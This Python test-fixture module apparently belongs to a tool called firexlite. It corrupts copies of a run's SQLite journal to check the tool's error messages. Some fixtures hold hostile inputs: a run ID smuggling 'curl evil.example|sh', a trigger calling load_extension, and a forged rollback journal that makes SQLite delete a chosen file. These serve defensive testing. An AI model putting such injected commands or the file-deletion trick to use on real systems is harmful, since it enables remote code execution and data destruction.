"""Runs whose journal cannot be used, or may not be trusted: one sound run, and ways to spoil a copy of it."""
from __future__ import annotations

import contextlib
import hashlib
import os
import shutil
import sqlite3
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

from firexlite.home import RunDirectory
from firexlite.schema import SCHEMA, STATEMENTS


def copy_of(run: RunDirectory, home: Path) -> RunDirectory:
    """A copy below ``home``, which is made; as `cp -r` makes it."""
    home.mkdir(exist_ok=True)
    shutil.copytree(run.path, home / run.firex_id, ignore=shutil.ignore_patterns("wake"))
    return RunDirectory(home / run.firex_id)


def alter(run: RunDirectory, *statements: str) -> None:
    """Change a journal past everything that guards it."""
    db = sqlite3.connect(run.journal, isolation_level=None)
    for statement in statements:
        db.execute(statement).fetchall()
    db.close()


def falsify(run: RunDirectory, *statements: str) -> None:
    """As `alter`, of what triggers guard; they are there again afterwards, so that nothing but the rows is strange."""
    triggers = [(name, sql) for sql in STATEMENTS if sql.startswith("CREATE TRIGGER") for name in [sql.split()[2]]]
    alter(run, *(f"DROP TRIGGER {name}" for name, _ in triggers), *statements, *(sql for _, sql in triggers))


def digest_of(home: Path) -> dict[str, object]:
    """Names, kinds, modes and contents of all below a folder.

    Less what any look may leave: SQLite's index of the write-ahead log, and who last held `alive.lock`.
    """
    found: dict[str, object] = {}
    for above, folders, files in os.walk(home):
        for name in (*folders, *files):
            path = Path(above, name)
            if name.endswith("-shm"):
                continue
            about = path.lstat()
            is_read = path.is_file() and not path.is_symlink() and name != "alive.lock"
            found[str(path.relative_to(home))] = (about.st_mode, about.st_uid,
                                                  hashlib.sha256(path.read_bytes()).hexdigest() if is_read else None)
    return found


# --- ways to spoil --------------------------------------------------------------------------------------------------

def _overwrite(at: int, data: bytes) -> Callable[[RunDirectory], None]:
    def spoil(run: RunDirectory) -> None:
        with open(run.journal, "r+b") as file:
            file.seek(at)
            file.write(data)

    return spoil


def _replace(data: bytes) -> Callable[[RunDirectory], object]:
    return lambda run: run.journal.write_bytes(data)


def _cut(run: RunDirectory) -> None:
    page = page_bytes(run)
    os.truncate(run.journal, os.path.getsize(run.journal) // (2 * page) * page)


def page_bytes(run: RunDirectory) -> int:
    """The size of a page of a journal, as its header has it."""
    return int.from_bytes(run.journal.read_bytes()[16:18], "big")


def _zero_root_of_task(run: RunDirectory) -> None:
    db = sqlite3.connect(run.journal)
    [(page,)] = db.execute("SELECT rootpage FROM sqlite_master WHERE name = 'task'")
    db.close()
    size = page_bytes(run)
    _overwrite((page - 1) * size, bytes(size))(run)


def _foreign(run: RunDirectory) -> None:
    run.journal.unlink()
    alter(run, "CREATE TABLE t (x)", "PRAGMA application_id = 7")


def _altered(*statements: str) -> Callable[[RunDirectory], None]:
    return lambda run: alter(run, *statements)


def _a_folder(run: RunDirectory) -> None:
    run.journal.unlink()
    run.journal.mkdir()


def _another_table(run: RunDirectory) -> None:
    """Where the flame data should be stands a view of something else."""
    alter(run, "DROP TABLE flame",
          "CREATE VIEW flame (task, key, type, value, position) AS SELECT id, '', '', '', 1 FROM task")


def _with_column(column: str) -> Callable[[RunDirectory], None]:
    return _altered(f"ALTER TABLE task ADD COLUMN {column}")


def leave_rollback_journal(run: RunDirectory, victim: Path) -> None:
    """Lay a rollback journal beside a journal. Once SQLite has rolled it back it removes the file ``victim``: that is
    named as its super-journal, which joins transactions in several files."""
    magic, name = bytes.fromhex("d9d505f920a163d7"), os.fsencode(victim)
    page = page_bytes(run)
    pages = os.path.getsize(run.journal) // page
    header = (magic + struct.pack(">IIIII", 0, 0, pages, 512, page)).ljust(512, b"\0")
    trailer = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name) & 0xffffffff) + magic
    Path(f"{run.journal}-journal").write_bytes(header + trailer)


def _with_rollback_journal(run: RunDirectory) -> None:
    victim = run.path.parent / "precious.txt"
    victim.write_text("a file of who looks")
    leave_rollback_journal(run, victim)


def _with_pipe(part: str) -> Callable[[RunDirectory], None]:
    def spoil(run: RunDirectory) -> None:
        path = Path(f"{run.journal}{part}")
        path.unlink(missing_ok=True)
        os.mkfifo(path)

    return spoil


def _with_link(part: str) -> Callable[[RunDirectory], None]:
    def spoil(run: RunDirectory) -> None:
        (run.path.parent / "precious.txt").write_text("a file of who looks")
        Path(f"{run.journal}{part}").symlink_to(run.path.parent / "precious.txt")

    return spoil


NOT_REGULAR = "{journal}%s is no regular file, as it is in a run that firexlite made"
DAMAGED = "{journal} is damaged [(].*[)]; a copy of the run's directory from before can take its place"

# name -> (what spoils a sound run, what every command says of it: a pattern); {journal} is the path of the file
UNUSABLE: dict[str, tuple[Callable[[RunDirectory], object], str]] = {
    "empty": (_replace(b""), "{journal} is empty: no journal was written there, or it was cut off"),
    "cut off in the middle": (_cut, DAMAGED),
    "without a header": (_overwrite(0, bytes(100)),
                         "{journal} is no SQLite file: it was overwritten, or something else was put in its place"),
    "with a page of zeros": (_zero_root_of_task, DAMAGED),
    "garbage": (_replace(hashlib.shake_128(b"seed").digest(65536)),
                "{journal} is no SQLite file: it was overwritten, or something else was put in its place"),
    "a text": (_replace(b"Dear Li,\n" * 200),
               "{journal} is no SQLite file: it was overwritten, or something else was put in its place"),
    "of another application": (_foreign, "{journal} is no journal of firexlite but an SQLite file of application 0x7"),
    "of a newer firexlite": (_altered("PRAGMA user_version = 9"),
                             f"{{journal}} has schema 9, and this firexlite reads up to {SCHEMA}; use a newer firexlite"),
    "a directory": (_a_folder, "{journal} (is a directory, where a journal should be"
                               "|should be a file, as in every run that firexlite made, and is none)"),
    "with a rollback journal": (
        _with_rollback_journal, "{journal}-journal lies beside the journal, and firexlite never leaves such a file: to undo "
                                "what it tells of could remove any file of yours; do not trust this run"),
    "a pipe": (_with_pipe(""), "{journal} (is no regular file, as it is in a run that firexlite made"
                               "|should be a file, as in every run that firexlite made, and is none)"),
    "with a pipe for a rollback journal": (_with_pipe("-journal"), NOT_REGULAR % "-journal"),
    "with a pipe for its log": (_with_pipe("-wal"), NOT_REGULAR % "-wal"),
    "with a link for its log": (_with_link("-wal"), NOT_REGULAR % "-wal"),
    "with a link for the index of its log": (_with_link("-shm"), NOT_REGULAR % "-shm"),
    "with a name that a shell obeys": (
        _altered("UPDATE run SET firex_id = 'x; curl evil.example|sh #'"),
        "{journal} names its run 'x; curl evil.example[|]sh #', which is not a FireX ID"),
    "with a trigger": (_altered("CREATE TRIGGER mine AFTER UPDATE ON run BEGIN SELECT load_extension('x'); END"),
                       "{journal} is not as firexlite makes it: it has the trigger 'mine', which is none of ours"),
    "with a trigger in the place of ours": (
        _altered("DROP TRIGGER tasks_stay", "CREATE TRIGGER tasks_stay BEFORE UPDATE ON task BEGIN DELETE FROM attempt; END"),
        "{journal} is not as firexlite makes it: it has the trigger 'tasks_stay' in another form"),
    "without a trigger": (_altered("DROP TRIGGER success_is_for_ever"),
                          "{journal} is not as firexlite makes it: it lacks success_is_for_ever"),
    "with a view": (_another_table,
                    "{journal} is not as firexlite makes it: it has the view 'flame', which is none of ours"),
    "with a generated column": (
        _with_column("evil TEXT AS (upper(service))"),
        "{journal} is not as firexlite makes it: its table task is defined with as, evil, upper"),
    "with one more table": (_altered("CREATE TABLE more (x)"),
                            "{journal} is not as firexlite makes it: it has the table 'more', which is none of ours"),
    "with a virtual table": (_altered("CREATE VIRTUAL TABLE more USING fts5(x)"),
                             "{journal} is not as firexlite makes it: it has the table 'more.*', which is none of ours"),
    "with options of other types": (
        _altered("""UPDATE run SET options = '{"workers": "many"}'"""),
        "({journal} holds what firexlite never writes: )?the options of run 1: there is no 'plugins'"),
}


class LockedJournals:
    """Another program that has journals locked as a whole."""

    CODE = """
import sqlite3, sys
held = []
for path in sys.argv[1:]:
    held.append(sqlite3.connect(path, isolation_level=None))
    held[-1].execute("BEGIN EXCLUSIVE")
print("locked", flush=True)
sys.stdin.read()
"""

    def __init__(self, *journals: Path) -> None:
        self._process = subprocess.Popen([sys.executable, "-c", self.CODE, *map(str, journals)],
                                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        assert self._process.stdout
        assert self._process.stdout.readline() == "locked\n"
        self.pid = self._process.pid

    def close(self) -> None:
        self._process.communicate("", timeout=30)

    def __enter__(self) -> LockedJournals:
        return self

    def __exit__(self, *_: object) -> None:
        with contextlib.suppress(BrokenPipeError):
            self.close()
